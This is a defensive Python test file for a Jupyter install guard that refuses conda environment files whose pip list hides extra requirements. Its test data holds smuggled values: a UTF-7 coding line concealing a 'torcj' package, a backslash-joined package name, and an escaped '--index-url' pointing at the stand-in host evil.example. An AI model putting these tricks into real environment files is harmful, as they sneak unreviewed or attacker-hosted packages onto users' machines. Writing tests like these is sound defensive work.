"""fix60conda: an environment file's ``pip:`` list read as the requirements file conda writes.

conda (conda/env/installers/pip.py ``_pip_install_via_requirements``) joins the items with
``\\n``, writes them as UTF-8 to a temporary file beside the environment file (the system's
temporary folder when that folder is not writable) and runs ``pip install -U -r`` on it. pip
decodes that file with ``auto_decode``: a coding line among its first two lines counts, so
``'# -*- coding: utf-7 -*-'`` then ``'#x +AAo-torcj'`` is a ``torcj`` line to pip and two
comments to a reader of single items. Before the fix the kernel ran each of these; the shared
vectors (schema/vectors/install-decision.json, "fix60conda") hold the same cases for both
sides.
"""

from test_install_vectors import outcome

from jupyterlab_warden.kernel.guard.installs import environment_file, requirements
from jupyterlab_warden.kernel.guard.installs.arguments import conda_request

UTF7 = "dependencies:\n  - pip:\n    - '# -*- coding: utf-7 -*-'\n    - '#x +AAo-torcj'\n"


def _decide(text, tmp_path, command="conda env create -f e.yml"):
    return outcome({"policy": {}, "files": {"e.yml": text}, "command": command}, tmp_path)


def test_control_pip_reads_a_line_the_items_do_not_show():
    written = b"# -*- coding: utf-7 -*-\n#x +AAo-torcj"
    assert "torcj" in requirements.pip_decode(written).splitlines()


def test_a_coding_line_in_the_pip_list_is_refused(tmp_path):
    for command in ("conda env create -f e.yml", "mamba env update -f e.yml"):
        found = _decide(UTF7, tmp_path, command)
        assert found == {"rules": ["install-unreadable"], "runs": False}, (command, found)


def test_a_coding_line_in_a_later_pip_list_is_refused_too(tmp_path):
    text = "dependencies:\n  - pip:\n    - black\n  - pip:\n" + UTF7.split("pip:\n", 1)[1]
    assert not _decide(text, tmp_path)["runs"]


def test_an_item_ending_in_a_backslash_joins_the_next_as_pip_reads_it(tmp_path):
    (tmp_path / "e.yml").write_text(
        "dependencies:\n  - pip:\n    - 'tor\\'\n    - cj\n    - black\n"
    )
    request = conda_request("conda", ["env", "create", "-f", "e.yml"], str(tmp_path), {})
    assert [(r.text, r.origin) for r in request.requirements] == [
        ("torcj", "e.yml line 3"),
        ("black", "e.yml line 5"),
    ]
    assert request.problems == []


def test_a_double_quoted_escape_is_refused(tmp_path):
    """conda's YAML reads ``"black\\n--index-url URL"`` as two lines; this reader does not
    unescape, so it refuses."""
    text = 'dependencies:\n  - pip:\n    - "black\\n--index-url http://evil.example/simple"\n'
    found = _decide(text, tmp_path)
    assert "install-unreadable" in found["rules"] and not found["runs"]


def test_quoted_items_read_as_yaml_reads_them(tmp_path):
    (tmp_path / "e.yml").write_text(
        "dependencies:\n  - pip:\n    - 'black==24.1'\n    - \"numpy\"\n    - torch  # c\n"
    )
    request = conda_request("conda", ["env", "create", "-f", "e.yml"], str(tmp_path), {})
    assert [r.text for r in request.requirements] == ["black==24.1", "numpy", "torch"]
    assert request.problems == []


def test_a_relative_include_is_refused_when_conda_writes_to_the_temp_folder(tmp_path, monkeypatch):
    """Beside a folder conda cannot write, its file goes to the system's temporary folder and
    pip finds ``-r reqs.txt`` there, not beside the environment file."""
    (tmp_path / "e.yml").write_text(
        "dependencies:\n  - pip:\n    - -r reqs.txt\n    - -r/abs/r.txt\n    - black\n"
    )
    (tmp_path / "reqs.txt").write_text("black\n")
    writable = conda_request("conda", ["env", "create", "-f", "e.yml"], str(tmp_path), {})
    assert [r.text for r in writable.requirements] == ["black", "black"]
    monkeypatch.setattr(environment_file, "_writable", lambda folder: False)
    request = conda_request("conda", ["env", "create", "-f", "e.yml"], str(tmp_path), {})
    assert len(request.problems) == 2, request.problems
    assert "e.yml line 3: a relative requirements file" in request.problems[0]
    assert "cannot read requirements file r.txt" in request.problems[1]
    assert [r.text for r in request.requirements] == ["black"]
